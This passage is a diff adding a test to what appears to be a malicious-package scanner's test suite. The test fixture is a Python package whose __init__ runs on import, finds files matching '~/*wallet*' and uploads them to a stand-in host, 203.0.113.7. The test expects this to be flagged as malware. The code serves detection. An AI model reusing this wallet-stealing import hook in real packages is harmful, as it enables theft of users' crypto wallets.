@@ -163,3 +163,27 @@ describe('what a program puts into something and takes out again is still what i
     expect((await inspect('hidden-code', file)).filter((f) => f.score >= 5)).toEqual([]);
   });
 });
+
+test('a queue keeps what came before the mark that ends it', async () => {
+  const file = wheel({
+    'pkg/__init__.py': python(
+      'import glob, os, queue, threading, requests',
+      'paths = queue.Queue()',
+      'def find():',
+      "    for path in glob.glob(os.path.expanduser('~/*wallet*')):",
+      '        paths.put(path)',
+      '    paths.put(None)',
+      'def send():',
+      '    while True:',
+      '        path = paths.get()',
+      '        if path is None: break',
+      "        requests.put('http://203.0.113.7/w', data=open(path, 'rb').read())",
+      'threading.Thread(target=find).start()',
+      'threading.Thread(target=send).start()',
+    ),
+  });
+
+  expect(await inspect('exfiltration', file)).toMatchObject([
+    { class: 'malware', score: 10, context: 'import', line: 11 },
+  ]);
+});
